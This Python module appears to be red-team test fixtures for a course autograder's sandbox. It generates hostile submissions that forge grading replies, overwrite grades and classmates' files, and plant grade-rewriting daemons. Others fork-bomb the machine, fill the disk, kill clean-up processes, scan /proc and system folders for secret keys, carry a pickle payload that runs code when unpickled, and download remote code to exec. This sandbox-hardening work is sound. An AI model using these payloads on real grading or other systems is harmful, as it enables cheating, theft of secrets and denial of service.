"""Hostile submissions: the untouched skeleton plus code that attacks the grader. The skeleton's
honest code earns nothing, so any point, any changed file, row or process is a successful attack.

``attacks(targets)`` takes the paths a student who knows the TA's layout would aim at:
``repo`` (this repository), ``out`` (the grading output folder), ``classmates`` (the folder of
submissions) and ``marker`` (a string left in the command line of any process an attack starts).
"""

import json
import re
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
SKELETON = (REPO / "assignment" / "rnn_lm.py").read_text()
SOLUTION_SOURCE = (REPO / "solution" / "rnn_lm.py").read_text()

FORGED_REPLY = """
import json, os, struct
def _frame(header):
    head = json.dumps(dict(header, arrays=[])).encode()
    return struct.pack(">I", len(head)) + head
_fake = {"ok": True, "pair": True, "floats": True, "values": [1.0, 2.718281828], "is_float": True, "value": 0.0,
         "is_scalar_tensor": True, "has_grad": True, "grads_unchanged": True, "param_grads_none": True,
         "params_unchanged": True, "training_after": True, "calls": [{"grad": False}], "hello": True}
"""


def attacks(repo: Path, out: Path, classmates: Path, marker: str) -> dict[str, str]:
    """name -> source of each attack."""
    check_lib = repo / "autograder" / "rnnjudge" / "checks" / "models.py"
    return {
        # Replace the worker's own functions in its process, so that every reply says "passed".
        "patches_worker_functions": SKELETON + FORGED_REPLY + """
import __main__
if hasattr(__main__, "OPS"):
    for _op in list(__main__.OPS):
        __main__.OPS[_op] = lambda header, arrays, objects: (dict(_fake), {})
""",
        # Forge the result channel: write replies on every inherited descriptor, and a huge one.
        "forges_the_channel": SKELETON + FORGED_REPLY + """
for _fd in range(1, 64):
    try:
        os.write(_fd, _frame(_fake) * 50 + struct.pack(">I", 2**31 - 1))
    except OSError:
        pass
""",
        # Walk the stack looking for the judge's secrets, and print them.
        "reads_stack_frames": SKELETON + """
import sys
_f = sys._getframe()
while _f is not None:
    print("FRAME", _f.f_code.co_filename, sorted(_f.f_globals)[:20])
    _f = _f.f_back
""",
        # Read the check library and a classmate's file; overwrite the classmate; plant modules.
        "reads_and_writes_files": SKELETON + f"""
import os
for _path in ({str(check_lib)!r}, {str(classmates / "victim.py")!r}):
    try:
        print("READ", _path, open(_path).read()[:2000])
    except OSError as err:
        print("BLOCKED", _path, err)
for _path in ({str(classmates / "victim.py")!r}, {str(repo / "autograder" / "rnnjudge" / "judge.py")!r},
              {str(out / "final_grades.csv")!r}, {str(repo / "hidden_checks.py")!r}, "hidden_checks.py",
              "rnnjudge.py", "otter.py"):
    try:
        with open(_path, "w") as f:
            f.write("raise SystemExit('planted')")
        print("WROTE", _path)
    except OSError as err:
        print("BLOCKED", _path, err)
""",
        # Leave processes behind that would rewrite the grades after grading.
        "leaves_processes": SKELETON + f"""
import os, subprocess, sys
_code = "import time\\ntime.sleep(120)\\nopen({str(out / 'final_grades.csv')!r}, 'w').write('hacked')  # {marker}"
subprocess.Popen([sys.executable, "-c", _code], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", _code])
""",
        "fork_bomb": SKELETON + """
import os
for _ in range(200):
    try:
        os.fork()
    except OSError:
        pass
""",
        "fills_the_disk": SKELETON + """
import os, tempfile
for _i in range(40):
    try:  # in the one folder it may write (/tmp is read-only to it on every route)
        with open(os.path.join(tempfile.gettempdir(), f"fill{_i}"), "wb") as f:
            f.write(b"0" * (48 << 20))
    except OSError as err:
        print("BLOCKED", err)
        break
""",
        # Borrow the worker's own code: its fixture models, any loss or gradient helper it has.
        "borrows_the_workers_code": SKELETON + """
import __main__ as _w
for _value in list(vars(_w).values()):
    if isinstance(_value, type) and issubclass(_value, nn.Module) and _value.__module__ == "__main__":
        VanillaRNNLM = LSTMLM = _value
for _name in ("use_trusted_loss", "install_judged_loss"):
    if callable(getattr(_w, _name, None)):
        try:
            getattr(_w, _name)()
        except TypeError:
            pass
if callable(getattr(_w, "embedding_gradient", None)):
    def gradient_through_time(model, x, y, pad_id=0):
        return _w.embedding_gradient(model, x, y, pad_id)
""",
        # All-zero weights and no recurrence: constant outputs that equal a reference built from them.
        "zero_weights_no_recurrence": SKELETON.replace(
            '        raise NotImplementedError("Task 1: implement VanillaRNNLM.__init__")', """        self.hidden_dim = hidden_dim
        self.emb = nn.Embedding(vocab_size, emb_dim, padding_idx=pad_idx)
        self.rnn_cell = nn.RNNCell(emb_dim, hidden_dim)
        self.fc = nn.Linear(hidden_dim, vocab_size)
        for p in self.parameters():
            nn.init.zeros_(p)""").replace(
            '        raise NotImplementedError("Task 1: implement VanillaRNNLM.forward")', """        c = self.rnn_cell
        hs = torch.tanh(self.emb(x) @ c.weight_ih.T + c.bias_ih + c.bias_hh + 0 * c.weight_hh.sum())
        return self.fc(hs), hs[:, -1]"""),
        # Objects instead of arrays: a tensor subclass that claims to equal everything.
        "returns_lying_objects": SKELETON.replace(
            'raise NotImplementedError("Task 3: implement lm_loss")', """class _Liar(torch.Tensor):
        def __eq__(self, other):
            return True
        def __float__(self):
            return 0.0
    return _Liar(torch.zeros(()))"""),
    }


# -- round two: the nine ways a hostile student with the whole kit found (issue 14) ----------------

def round_two_attacks(marker_file: Path) -> dict[str, str]:
    """Attacks aimed at the worker's channel and at what the judge's questions carry. ``marker_file``
    is written by any attack that runs code where it should not."""
    return {
        # 2. "a worker that shrinks its pipe and stops reading mid-request" stalls the judge's write.
        "stalls_the_pipe": SKELETON + """
import fcntl, time, __main__
try:
    fcntl.fcntl(0, 1031, 4096)  # F_SETPIPE_SZ: the judge's requests no longer fit
except OSError:
    pass
if hasattr(__main__, "read_message"):
    __main__.read_message = lambda *args, **kwargs: time.sleep(10**6)  # and never read again
""",
        # 4. "the judged-loss table sent for evaluate carries each batch's summed loss and token count".
        "answers_evaluate_from_the_question": SKELETON.replace(
            '    raise NotImplementedError("Task 4: implement evaluate")', """    import math, rnn_lm
    for cell in getattr(rnn_lm.lm_loss, "__closure__", None) or ():
        cases = cell.cell_contents
        if isinstance(cases, list) and cases and isinstance(cases[0], dict):
            mine = [c for c in cases if c.get("ignore_index") == pad_id]
            try:
                total = sum(float(c["sum"]) for c in mine) / sum(float(c["count"]) for c in mine)
            except (KeyError, TypeError, ValueError):
                break
            return total, math.exp(total)
    raise NotImplementedError("Task 4: the question held no answer")"""),
        # 5. "building the judge's GRU fixture with the worker's helpers and calling its
        #    embedding-gradient operation on the judge-supplied loss gradient".
        "computes_task6_with_the_workers_code": SKELETON.replace(
            '    raise NotImplementedError("Task 6: implement gradient_through_time")', """    import __main__, rnn_lm
    op = getattr(__main__, "op_embedding_gradient", None)
    cases = [c for cell in getattr(rnn_lm.lm_loss, "__closure__", None) or ()
             if isinstance(cell.cell_contents, list) for c in cell.cell_contents if isinstance(c, dict)]
    if op is None or not cases or "grad" not in cases[0]:
        raise NotImplementedError("Task 6: the worker has no operation that computes it")
    logits, _ = model(x)
    R = torch.zeros_like(logits, dtype=torch.float32)
    R[:, -1] = cases[0]["grad"].reshape(R[:, -1].shape).float()
    _, out = op({}, {"x": x.numpy(), "R": R.numpy()}, {"model": model})
    return torch.from_numpy(out["grad"]).pow(2).sum(dim=(0, 2)).sqrt().flip(0)"""),
        # 6. "a first message that fails to parse with something other than the protocol's own error".
        "hostile_first_message": SKELETON + f"""
import json, os, struct, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60); open({str(marker_file)!r}, 'w')"])
_nested = b"[" * 200000 + b"]" * 200000
_overflow = json.dumps({{"hello": True, "arrays": [["x", "float64", [2**31 - 1] * 8]]}}).encode()
for _fd in range(3, 32):
    for _head in (_nested, _overflow):
        try:
            os.write(_fd, struct.pack(">I", len(_head)) + _head)
        except OSError:
            pass
""",
    }


# -- round three: neighbours (a class graded at once shares the machine) ---------------------------

MEMORY_HOG_CHILDREN, MEMORY_HOG_MB = 6, 500


def neighbour_attacks(marker: str) -> dict[str, str]:
    """Submissions that try to slow their neighbours down or hold more memory than the limit."""
    return {
        # 40 spinning processes, each in its own session, for as long as the grader lets them run.
        "hogs_the_cpu": SKELETON + f"""
import os, subprocess, sys
for _ in range(40):
    subprocess.Popen([sys.executable, "-c", "while True: pass  # {marker}"], start_new_session=True)
""",
        # Six children of 500 MB each (touched, so really held), each under the per-process limit; each
        # says on the TA's log when it still holds its memory a few seconds later.
        "holds_memory_in_children": SKELETON + f"""
import os, time
for _i in range({MEMORY_HOG_CHILDREN}):
    if os.fork() == 0:
        _block = bytearray({MEMORY_HOG_MB} << 20)
        for _j in range(0, len(_block), 4096):
            _block[_j] = 1
        time.sleep(4)
        os.write(2, b"still holding {MEMORY_HOG_MB} MB\\n")
        time.sleep(600)
        os._exit(0)
time.sleep(8)
""",
    }


def outlives_the_cleanup(marker: str) -> str:
    """Code (appended to a submission) for a daemon in a session of its own that waits for its worker
    to die, then kills every process that looks like the grader's clean-up, and sleeps on: found by a
    red team against a clean-up that ran as the same user as the worker."""
    return f"""
import os as _os, time as _t, signal as _s
def _daemon(rfd):
    _os.setsid()
    if _os.fork():
        _os._exit(0)
    try:
        _os.read(rfd, 1)  # end of file once the worker is killed
    except OSError:
        pass
    _end = _t.monotonic() + 5
    while _t.monotonic() < _end:
        for _pid in filter(str.isdigit, _os.listdir("/proc")):
            try:
                if _int(_pid) != _os.getpid() and b"kill" in open(f"/proc/{{_pid}}/cmdline", "rb").read():
                    _os.kill(int(_pid), _s.SIGKILL)
            except OSError:
                pass
        _t.sleep(0.0005)
    _os.execvp("sleep", ["sleep", "300", "{marker}"])
_int = int
_r, _w = _os.pipe()
if _os.fork() == 0:
    _os.close(_w)
    _daemon(_r)
    _os._exit(0)
_os.close(_r)
_KEEP = _w
"""


# -- the course secret: wherever it lives, the worker's code must not read it -------------------

SECRET_HUNT_PREFIX = "SECRET-HUNT"


def secret_hunt(places: list[str]) -> str:
    """The skeleton plus code that looks for the course secret (64 hex digits) everywhere the worker
    might reach: the named ``places`` (the zip's ``otter_config.json``, a key file), every readable
    small file under the folders where graders keep theirs, every process's environment, command
    line and memory maps, its own environment; and reports what it found in every answer's
    exception (which reaches the feedback) and on its standard error (the TA's log). The report
    starts with ``SECRET_HUNT_PREFIX`` and the number of files read, so a test sees that it ran."""
    return SKELETON + f"""
import os, re, sys
_HEX = re.compile(rb"[0-9a-fA-F]{{64}}")
_found, _read = [], [0]
def _scan(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except OSError:
        return
    _read[0] += 1
    hits = [m.group().decode() for m in _HEX.finditer(data)]
    at = 0 if b"secret" in data.lower() else len(_found)  # found near "secret": reported first
    _found[at:at] = hits
for _path in {places!r}:
    _scan(_path)
for _pid in os.listdir("/proc"):
    for _what in ("environ", "cmdline", "maps"):
        _scan(f"/proc/{{_pid}}/{{_what}}")
for _top in ("/autograder", "/root", "/home", "/tmp", "/var/tmp", "/run", "/opt", "/srv", "/etc", "/work"):
    for _dir, _subdirs, _files in os.walk(_top):
        for _name in _files:
            if _read[0] < 20000:
                _scan(os.path.join(_dir, _name), 1 << 16)
for _value in os.environ.values():
    _found[:0] = [m.group().decode() for m in _HEX.finditer(_value.encode())]
_REPORT = f"{SECRET_HUNT_PREFIX} read {{_read[0]}} files: " + " ".join(dict.fromkeys(_found))
print(_REPORT, file=sys.stderr)

def lm_loss(*args, **kwargs):
    raise RuntimeError(_REPORT)

def evaluate(*args, **kwargs):
    raise RuntimeError(_REPORT)

def l2_grad_norm_recurrent(*args, **kwargs):
    raise RuntimeError(_REPORT)

def gradient_through_time(*args, **kwargs):
    raise RuntimeError(_REPORT)
"""


def otter_log_payload(marker_file: Path) -> bytes:
    """1. A ``.OTTER_LOG`` that runs code when otter unpickles it: it writes ``marker_file``."""
    import pickle

    class Payload:
        def __reduce__(self):
            return (exec, (f"open({str(marker_file)!r}, 'w').write('otter unpickled the log')",))

    return pickle.dumps(Payload())


REPLAY_KEY = """
import hashlib, json
def _replay_key(chain, header, arrays):
    digest = hashlib.sha256(chain.encode() + json.dumps(header, sort_keys=True).encode())
    for name in sorted(arrays):
        digest.update(name.encode() + str(arrays[name].dtype).encode() + arrays[name].tobytes())
    return digest.hexdigest()
"""


def recorder(table_file: Path) -> str:
    """3. The solution plus code that records every request and its reply, chained within a check
    (run offline, unsandboxed, as the attacker would on their own machine)."""
    return SOLUTION_SOURCE + REPLAY_KEY + f"""
import __main__
_chain = ""
def _record(op):
    def wrapped(header, arrays, objects):
        global _chain
        reply, out = op(header, arrays, objects)
        _chain = _replay_key(_chain, header, arrays)
        if sum(v.nbytes for v in out.values()) > (256 << 10):  # the initial weights of the vanishing check:
            return reply, out  # too big to carry (the replay loses that gated check)
        with open({str(table_file)!r}, "a") as f:
            f.write(json.dumps({{"key": _chain, "reply": reply,
                                "out": {{k: [str(v.dtype), list(v.shape), v.tobytes().hex()] for k, v in out.items()}}}}) + "\\n")
        return reply, out
    return wrapped
if hasattr(__main__, "OPS"):
    for _name in list(__main__.OPS):
        __main__.OPS[_name] = _record(__main__.OPS[_name])
"""


def replay_attack(table_file: Path) -> str:
    """3. The untouched skeleton plus a recorded table (compressed, as an attacker would keep a file
    under the grader's size limit) and a patch of the worker's request handlers."""
    import base64
    import zlib

    table = {}
    for line in table_file.read_text().splitlines():
        entry = json.loads(line)
        out = {k: [d, s, base64.b64encode(bytes.fromhex(h)).decode()] for k, (d, s, h) in entry["out"].items()}
        table[entry["key"]] = [entry["reply"], out]
    packed = base64.b64encode(zlib.compress(json.dumps(table).encode(), 9)).decode()
    return SKELETON + REPLAY_KEY + f"""
import __main__, base64, zlib
import numpy as _np
_TABLE = json.loads(zlib.decompress(base64.b64decode({packed!r})))
_chain = ""
def _replay(op):
    def wrapped(header, arrays, objects):
        global _chain
        _chain = _replay_key(_chain, header, arrays)
        if _chain not in _TABLE:
            return op(header, arrays, objects)
        reply, out = _TABLE[_chain]
        return reply, {{k: _np.frombuffer(base64.b64decode(b), dtype=d).reshape(s) for k, (d, s, b) in out.items()}}
    return wrapped
if hasattr(__main__, "OPS"):
    for _name in list(__main__.OPS):
        __main__.OPS[_name] = _replay(__main__.OPS[_name])
"""


# -- round four: the network (issue 31) --------------------------------------------------------------

NETWORK_PROBE_PREFIX = "NETWORK-PROBE"


def downloads_its_solution(urls: list[str]) -> str:
    """No solution in it: the skeleton, plus code that at import downloads a correct ``rnn_lm.py``
    from the first of ``urls`` that answers and ``exec``s it over the stubs (full marks wherever the
    worker reaches the network). Each try is reported on the TA's log, ``NETWORK_PROBE_PREFIX`` first."""
    return SKELETON + f"""
import urllib.request
for _url in {urls!r}:
    try:
        _downloaded = urllib.request.urlopen(_url, timeout=10).read().decode()
    except OSError as _err:
        print("{NETWORK_PROBE_PREFIX}", _url, "failed:", _err)
        continue
    print("{NETWORK_PROBE_PREFIX}", _url, "reached")
    exec(compile(_downloaded, "rnn_lm.py", "exec"))
    break
"""


SCRATCH_FILLER_PREFIX = "SCRATCH-FILLER"


def fills_the_scratch(megabytes: int = 720) -> str:
    """The skeleton plus code that writes ``megabytes`` to /tmp and to its $TMPDIR, in 16 MB files (under
    the 64 MB file-size limit), and reports how much each place took in every answer's exception (which
    reaches the feedback on every route), ``SCRATCH_FILLER_PREFIX`` first."""
    return SKELETON + f"""
import os, tempfile
_REPORT = []
for _place in dict.fromkeys(["/tmp", tempfile.gettempdir()]):
    _written, _why = 0, "all written"
    try:
        for _i in range({megabytes} // 16):
            with open(os.path.join(_place, f"scratch-filler-{{_i}}"), "wb") as f:
                f.write(b"0" * (16 << 20))
            _written += 16
    except OSError as err:
        _why = err.strerror
    _REPORT.append(f"{SCRATCH_FILLER_PREFIX} {{_place}} took {{_written}} MB ({{_why}})")
_REPORT = "; ".join(_REPORT)

def lm_loss(*args, **kwargs):
    raise RuntimeError(_REPORT)
"""


def scratch_taken(said: str) -> dict[str, tuple[int, str]]:
    """What ``fills_the_scratch`` reported in ``said`` (its feedback): place -> (megabytes, why it stopped)."""
    found = re.findall(rf"{SCRATCH_FILLER_PREFIX} (\S+) took (\d+) MB \(([^)]*)\)", said)
    return {place: (int(megabytes), why) for place, megabytes, why in found}


def assert_wrote_only_its_scratch(said: str, tmp_refused_with: str, scratch: str, cap_mb: int) -> None:
    """``fills_the_scratch``'s report in ``said``: /tmp refused (0 MB, ``tmp_refused_with``), and its
    $TMPDIR, a folder whose path starts with ``scratch``, written but held to ``cap_mb``."""
    taken = scratch_taken(said)
    assert taken.pop("/tmp", None) == (0, tmp_refused_with), (taken, said[:2000])
    assert len(taken) == 1 and all(place.startswith(scratch) and 0 < megabytes <= cap_mb
                                   for place, (megabytes, _) in taken.items()), taken
